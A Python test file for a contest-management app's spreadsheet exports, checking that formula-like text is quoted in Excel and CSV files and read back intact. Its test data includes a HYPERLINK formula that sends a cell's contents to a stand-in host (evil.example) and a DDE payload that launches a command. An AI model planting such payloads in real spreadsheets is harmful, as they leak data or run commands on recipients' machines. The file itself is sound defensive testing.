"""cells.py: text a spreadsheet would run as a formula is quoted in every Excel and CSV file
we write; numbers and dates stay what they are; our importers read the quoted text back.

The end-to-end tests import names such as =HYPERLINK(…) through the real roster, labor
and innovation imports, write every export, and read the files back with openpyxl and
the csv module."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl import Workbook

from contest_desk.cli import main
from contest_desk.domain.contest import ContestKind
from contest_desk.domain.labor import Direction, Indicator, IndicatorRule
from contest_desk.domain.records.labor import PeriodKind
from contest_desk.reports.audit_excel import write_audit_excel
from contest_desk.reports.cells import inert, restored
from contest_desk.reports.files import save_workbook
from contest_desk.reports.innovation_excel import read_ledger, write_ledger
from contest_desk.reports.labor_excel import read_labor_sheet, write_labor_template
from contest_desk.reports.labor_report import labor_csv
from contest_desk.reports.result_notice import labor_notice, standings_notice, write_notice_excel
from contest_desk.reports.roster_excel import read_roster, write_roster_template
from contest_desk.reports.standings_text import standings_csv
from contest_desk.reports.text_table import csv_text
from contest_desk.services.hub import Services
from contest_desk.services.people.roster_import import RosterImportService

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
SOLO = "采油工"
DAY = dt.date(2026, 6, 30)

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "-3",  # a name or unit, not a number: quoted like any text
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # spreadsheets may trim leading whitespace before deciding
    "\n=1+1",
    "　@SUM(A1)",  # an ideographic space is whitespace too
    HYPERLINK,
    DDE,
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_begins_like_a_formula_gets_a_leading_quote(text: str) -> None:
    assert inert(text) == "'" + text
    assert restored(inert(text)) == text


@pytest.mark.parametrize(
    "value",
    ["张三", "", "a=b", "  采油一区", "1001", "'quoted", "'", -3, Decimal("-3.50"), 2.5, None],
)
def test_everything_else_is_left_as_it_is(value: Any) -> None:
    assert inert(value) == value


def test_dates_stay_dates() -> None:
    day = dt.date(2026, 5, 20)
    assert inert(day) is day


def test_a_number_written_as_text_is_left_in_a_column_of_numbers_only() -> None:
    for number in ("-3.50", "+2", "-3", "-0.5"):
        assert inert(number, number_text=True) == number
    for text in ("-1+2", "-3 ", "=3", "-A1", " -3"):
        assert inert(text, number_text=True) == "'" + text


def test_restoring_leaves_other_quotes_alone() -> None:
    assert restored("'s-Hertogenbosch") == "'s-Hertogenbosch"
    assert restored("'张三") == "'张三"
    assert restored("张三") == "张三"


def test_a_saved_workbook_holds_no_formula_and_keeps_its_numbers(tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append([HYPERLINK, DDE, "#N/A", "-3", -3, Decimal("-2.5"), dt.date(2026, 5, 20), "张三"])
    assert sheet["A1"].data_type == "f"  # what openpyxl does with such a name on its own
    loaded = openpyxl.load_workbook(save_workbook(book, tmp_path / "x.xlsx")).active
    assert loaded is not None
    cells = list(loaded[1])
    assert [c.data_type for c in cells] == ["s", "s", "s", "s", "n", "n", "d", "s"]
    assert [c.value for c in cells[:4]] == ["'" + HYPERLINK, "'" + DDE, "#N/A", "'-3"]
    assert cells[4].value == -3 and cells[5].value == -2.5
    assert cells[6].value == dt.datetime(2026, 5, 20) and cells[7].value == "张三"


def test_csv_text_quotes_the_header_and_every_field() -> None:
    text = csv_text(
        ["名次", DDE, "合计"], [["1", HYPERLINK, "-3.50"], [2, "-3", Decimal("-1")]], {0, 2}
    )
    assert list(csv.reader(io.StringIO(text))) == [
        ["名次", "'" + DDE, "合计"],
        ["1", "'" + HYPERLINK, "-3.50"],
        ["2", "'-3", "-1"],
    ]


# End to end: names imported through the real imports, every export read back.


@dataclass
class Plant:
    services: Services
    db: str
    contest: int
    solo: int
    labor: int
    team: int


def text_rows(path: Path, rows: list[list[Any]]) -> None:
    """Fill a template's first sheet from row 2 with text cells, as a roster exported by
    another system holds them (openpyxl alone would make "=…" a formula)."""
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    for r, values in enumerate(rows, start=2):
        for c, value in enumerate(values, start=1):
            cell = sheet.cell(r, c, value)
            if isinstance(value, str):
                cell.data_type = "s"
    book.save(path)


@pytest.fixture(scope="module")
def plant(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Plant]:
    folder = tmp_path_factory.mktemp("cells")
    db = str(folder / "plant.db")
    services = Services.open(db)
    services.users.create_first_admin("admin", "管理员", "admin-2026")
    services.users.add_user("organizer", "赵晓梅", "organizer-2026", ["organizer"])
    contest = services.contests.create_contest("2026年技能比武")
    solo = services.contests.create_event(contest.id, SOLO).id
    services.contests.create_event(contest.id, DDE)
    roster = folder / "报名表.xlsx"
    write_roster_template(roster, [SOLO, DDE])
    # The event the drop-down offers is the quoted name the template lists.
    offered = openpyxl.load_workbook(roster).worksheets[1]["A"][-1].value
    text_rows(
        roster,
        [
            ["2001", HYPERLINK, "采油一区/采油一班", "", "", SOLO, None],
            ["2002", DDE, "-3", "", "", SOLO, None],
            ["2002", DDE, "-3", "", "", offered, None],
        ],
    )
    RosterImportService(services.ctx).import_rows(contest.id, read_roster(roster), roster.name)

    labor = services.contests.create_contest(
        "上产竞赛", ContestKind.LABOR, dt.date(2026, 6, 1), DAY, "采油厂工会"
    )
    people = {p.employee_no: p.id for p in services.roster.persons()}
    team = services.roster.add_team(labor.id, HYPERLINK, [people["2001"]]).id
    services.roster.add_team(labor.id, "-3", [people["2002"]])
    services.labor.set_indicators(
        labor.id,
        (Indicator("C5", "安全环保事件", "起", Direction.LOWER, IndicatorRule.PENALTY, Decimal(0),
                   penalty_per_event=Decimal(10)),),
    )  # fmt: skip
    services.labor.add_period(labor.id, "6月", PeriodKind.MONTH, dt.date(2026, 6, 1), DAY)
    services.labor_values.set_value(labor.id, "6月", team, "C5", Decimal(2))
    # A correction's reason is typed by a person: it reaches the audit export as it is.
    services.labor_values.set_value(labor.id, "6月", team, "C5", Decimal(3), HYPERLINK)

    studio = services.innovation.add_studio(DDE, "采油一区", "plant")
    services.innovation.propose(studio.id, HYPERLINK, "tool", ["2001"], problem="-3")
    yield Plant(services, db, contest.id, solo, labor.id, team)
    services.ctx.db.dispose()


def cells_of(path: Path) -> list[Any]:
    """Every cell of every sheet, read as Excel would open the file."""
    return [c for sheet in openpyxl.load_workbook(path).worksheets for row in sheet for c in row]


def assert_inert(path: Path, *names: str) -> list[Any]:
    cells = cells_of(path)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    for name in names:
        assert "'" + name in texts and name not in texts
    return cells


def test_the_roster_import_kept_the_names_as_they_were(plant: Plant) -> None:
    assert [(e.label, e.unit) for e in plant.services.roster.entries(plant.solo)] == [
        (HYPERLINK, "采油一区/采油一班"),
        (DDE, "-3"),
    ]
    events = {e.name: e.id for e in plant.services.contests.events(plant.contest)}
    assert [e.label for e in plant.services.roster.entries(events[DDE])] == [DDE]


def test_the_roster_template_lists_a_quoted_event(plant: Plant, tmp_path: Path) -> None:
    path = write_roster_template(tmp_path / "报名表.xlsx", [SOLO, DDE])
    assert_inert(path, DDE)


def test_the_result_notice(plant: Plant, tmp_path: Path) -> None:
    standings = standings_notice(
        plant.services.standings.standings(plant.solo), "2026年技能比武", "采油厂工会", DAY
    )
    labor = labor_notice(plant.services.labor_standings.standings(plant.labor, "6月"), "工会", DAY)
    path = write_notice_excel(tmp_path / "公示.xlsx", [standings, labor])
    assert_inert(path, HYPERLINK, DDE, "-3")
    book = openpyxl.load_workbook(path)
    first, second = book.worksheets
    assert [(c.value, c.data_type) for c in first["A"][2:4]] == [(1, "n"), (1, "n")]
    assert [(c.value, c.data_type) for c in first["E"][2:4]] == [(0, "n"), (0, "n")]
    # A penalty's negative total is a number, shown with its two places.
    total = next(c for c in second["D"] if c.value == -30)
    assert total.data_type == "n" and total.number_format == "0.00"


def test_the_labor_template_and_its_import(plant: Plant, tmp_path: Path) -> None:
    grid = plant.services.labor_values.grid(plant.labor, "6月")
    path = write_labor_template(tmp_path / "6月.xlsx", "上产竞赛", grid)
    cells = assert_inert(path, HYPERLINK, "-3")
    assert next(c for c in cells if c.value == 3).data_type == "n"
    # Our own file read back: the quoted team names are the teams they were.
    sheet = read_labor_sheet(path)
    assert [team for _number, team, _cells in sheet.rows] == [HYPERLINK, "-3"]
    assert sheet.rows[0][2] == {2: "3"}
    book = openpyxl.load_workbook(path)
    book.active["B6"] = 1  # the team "-3" had its event too
    book.save(path)
    services = plant.services
    assert services.labor_import.import_values(plant.labor, "6月", read_labor_sheet(path)) == 1
    values = services.labor_values.grid(plant.labor, "6月").values
    assert [values[t.id].get("C5") for t in services.labor.teams(plant.labor)] == [3, 1]


def test_the_labor_csv_keeps_a_negative_total_a_number(plant: Plant) -> None:
    table = plant.services.labor_standings.standings(plant.labor, "6月")
    rows = list(csv.reader(io.StringIO(labor_csv(table))))
    by_team = {row[1]: row for row in rows[1:]}
    assert set(by_team) == {"'" + HYPERLINK, "'-3"}
    assert by_team["'" + HYPERLINK][3:5] == ["-30.00", "-30.00"]


def test_the_innovation_ledger_goes_out_quoted_and_comes_back_whole(
    plant: Plant, tmp_path: Path
) -> None:
    services = plant.services
    path = write_ledger(
        tmp_path / "台账.xlsx",
        services.ledger.achievements(),
        services.innovation_details.completer_numbers(),
    )
    assert_inert(path, HYPERLINK, DDE, "-3")
    other = Services.open(str(tmp_path / "other.db"))
    try:
        for p in services.roster.persons():
            other.roster.add_person(p.employee_no, p.name, p.unit)
        other.innovation.add_studio(DDE, "采油一区", "plant")
        assert other.innovation_import.import_ledger(read_ledger(path)) == 1
        (achievement,) = other.ledger.achievements()
        assert (achievement.title, achievement.studio, achievement.problem) == (
            HYPERLINK,
            DDE,
            "-3",
        )
        assert [p.name for p in other.roster.persons()] == [HYPERLINK, DDE]
    finally:
        other.ctx.db.dispose()


def test_the_audit_export(plant: Plant, tmp_path: Path) -> None:
    rows = plant.services.audit.records()
    path = write_audit_excel(tmp_path / "审计.xlsx", rows)
    cells = assert_inert(path, HYPERLINK)
    assert all(c.data_type == "n" for c in cells if c.column == 1 and c.row > 1)  # the seq


def test_standings_csv_from_the_command_line(
    plant: Plant, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CONTEST_DESK_PASSWORD", "organizer-2026")
    argv = ["--lang", "en", "--db", plant.db, "--user", "organizer", "standings"]
    assert main([*argv, "--event", str(plant.solo), "--format", "csv"]) == 0
    header, *rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert header[:4] == ["Rank", "Code", "Name", "Unit"]
    assert [row[2:4] for row in rows] == [
        ["'" + HYPERLINK, "采油一区/采油一班"],
        ["'" + DDE, "'-3"],
    ]
    assert all(row[0] == "1" and row[-3] == "0.00" for row in rows)


def test_names_from_a_contest_file_come_out_quoted(plant: Plant, tmp_path: Path) -> None:
    path = plant.services.transfer.export_file(plant.contest, tmp_path / "比武.json")
    other = Services.open(str(tmp_path / "other.db"))
    try:
        contest = other.transfer.import_file(path)
        event = next(e for e in other.contests.events(contest.id) if e.name == SOLO)
        table = other.standings.standings(event.id)
    finally:
        other.ctx.db.dispose()
    notice = standings_notice(table, contest.name, "工会", DAY)
    assert_inert(write_notice_excel(tmp_path / "公示.xlsx", [notice]), HYPERLINK, DDE, "-3")
    rows = list(csv.reader(io.StringIO(standings_csv(table))))
    assert [row[2:4] for row in rows[1:]] == [
        ["'" + HYPERLINK, "采油一区/采油一班"],
        ["'" + DDE, "'-3"],
    ]
